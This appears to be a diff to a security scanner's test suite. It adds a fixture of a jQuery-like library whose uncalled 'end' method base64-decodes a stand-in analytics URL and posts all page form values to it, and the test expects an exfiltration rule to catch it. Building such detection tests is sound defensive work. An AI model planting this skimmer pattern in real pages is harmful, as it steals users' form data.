@@ -244,6 +244,21 @@ J.ajax = function (o) { var x = new XMLHttpRequest(); x.open('POST', o.url); x.s
     });
     expect(found).toContain('js.page-secret-exfil');
   });
+  it('the same theft kept in a prototype method nobody has called yet (defined before the prototype exists)', () => {
+    const found = rules({
+      'index.js': `var J = function (sel) { return new J.fn.init(sel); };
+J.fn = J.prototype = {
+  init: function (sel) { var els = document.querySelectorAll(sel); for (var i = 0; i < els.length; i++) this[i] = els[i]; this.length = els.length; return this; },
+  each: function (fn) { for (var i = 0; i < this.length; i++) fn.call(this[i], i, this[i]); return this; },
+  serialize: function () { var parts = []; this.each(function () { var f = this.elements || [this]; for (var i = 0; i < f.length; i++) parts.push(f[i].name + '=' + f[i].value); }); return parts.join('&'); },
+  end: function () { J.ajax({ url: atob('aHR0cHM6Ly9zdGF0cy5leGFtcGxlLWNkbi5uZXQvYw=='), data: J('form').serialize() }); return this; },
+};
+J.fn.init.prototype = J.fn;
+J.ajax = function (o) { var x = new XMLHttpRequest(); x.open('POST', o.url); x.send(o.data); };
+window.J = J;`,
+    });
+    expect(found).toContain('js.page-secret-exfil');
+  });
   it('quiet: the same library posting a form to the address its caller gives', () => {
     expect(
       threatsOf(
